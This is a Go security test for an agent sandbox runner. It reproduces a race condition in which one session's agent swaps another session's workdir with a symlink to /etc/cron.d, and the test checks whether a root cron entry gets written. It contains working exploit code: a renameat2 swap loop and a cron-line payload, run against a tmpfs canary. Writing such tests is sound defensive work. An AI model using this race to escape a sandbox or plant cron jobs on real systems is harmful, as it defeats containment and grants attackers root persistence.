package escape

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// TestRT3WorkdirSwappedAfterCheck: the rules judge the path fedmem-run
// resolved when it planned (host.RealDir); the backend then opens the
// workdir again by that path, following links (open_tree(AT_FDCWD, path),
// idmapBinds' Lstat and pid 1's cloneTree), and nothing compares what it
// opened with what was judged (mounts.Verify checks targets and flags,
// not a mount's source). Another session's agent that may write the
// folder above the workdir — two agents in one repository, one in a
// sub-project — swaps the sub-project with a link to /etc/cron.d
// (renameat2 RENAME_EXCHANGE in a loop). Session B is started with
// --workdir PARENT/sub, again and again (up to 400 runs or 80 s); when
// the plan saw the folder and the open saw the link, B's agent writes
// /etc/cron.d as root (seen after 1 to a few dozen runs here). /etc is a
// tmpfs copy in the namespace (the canary).
func TestRT3WorkdirSwappedAfterCheck(t *testing.T) {
	if _, err := exec.LookPath("python3"); err != nil {
		t.Skip("python3 not installed")
	}
	e := setup(t, layout{name: "gate-owned/root", gateOwned: true})
	mono := filepath.Join(e.base, "mono")
	sub := filepath.Join(mono, "sub")
	if err := os.MkdirAll(sub, 0o755); err != nil {
		t.Fatal(err)
	}
	name := rt3Probe()
	swapper := `
import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
os.symlink("/etc/cron.d", "sub-link")
deadline = time.time() + 120
n = 0
while time.time() < deadline and not os.path.exists("stop"):
    libc.syscall(316, -100, b"sub", -100, b"sub-link", 2)  # renameat2(RENAME_EXCHANGE)
    n += 1
print("swaps", n)
`
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	a := e.command(ctx, "", []string{"--workdir", mono}, "python3", "-c", swapper)
	b := e.command(ctx, "", []string{"--workdir", sub}, "sh", "-c", `echo '* * * * * root id > /tmp/rt3' > ./`+name+` 2>/dev/null && echo "B wrote $PWD/`+name+`"; true`)
	var qa, qb []string
	for _, x := range a.Args {
		qa = append(qa, shq(x))
	}
	for _, x := range b.Args {
		qb = append(qb, shq(x))
	}
	script := fakeEtc(e.base) + "\nmkdir -p /etc/cron.d\ncd " + shq(mono) + "\n" +
		strings.Join(qa, " ") + " > " + shq(filepath.Join(e.base, "a.out")) + " 2>&1 &\napid=$!\n" +
		"sleep 2\ni=0\nstart=$(date +%s)\nwhile [ $i -lt 400 ] && [ $(( $(date +%s) - start )) -lt 80 ]; do i=$((i+1))\n" +
		"  " + strings.Join(qb, " ") + " >> " + shq(filepath.Join(e.base, "b.out")) + " 2>&1\n" +
		"  if [ -e /etc/cron.d/" + name + " ]; then echo \"LANDED /etc/cron.d/" + name + " owner uid $(stat -c %u /etc/cron.d/" + name + ") after $i tries\"; break; fi\n" +
		"done\n: > " + shq(filepath.Join(mono, "stop")) + "\n[ -e " + shq(filepath.Join(mono, "stop")) + " ] || : > " + shq(filepath.Join(mono, "sub", "stop")) + "\nwait $apid\necho tries=$i\n"
	cmd := exec.CommandContext(ctx, "unshare", "--mount", "--propagation", "private", "sh", "-c", script)
	cmd.Dir = e.workdir
	cmd.Env = b.Env
	cmd.WaitDelay = 5 * time.Second
	out, err := cmd.CombinedOutput()
	aOut, _ := os.ReadFile(filepath.Join(e.base, "a.out"))
	bOut, _ := os.ReadFile(filepath.Join(e.base, "b.out"))
	t.Logf("script: err %v\n%s\nsession A (swapper):\n%s", err, out, aOut)
	if strings.Contains(string(out), "LANDED") {
		t.Errorf("BREACH: session B's workdir %s, judged a project folder, was /etc/cron.d when bound: %s\nsession B's last runs:\n%s", sub, firstLine(out, "LANDED"), tail(bOut, 3000))
		return
	}
	t.Logf("nothing landed; session B's runs (tail):\n%s", tail(bOut, 3000))
}

func tail(b []byte, n int) string {
	if len(b) > n {
		b = b[len(b)-n:]
	}
	return string(b)
}
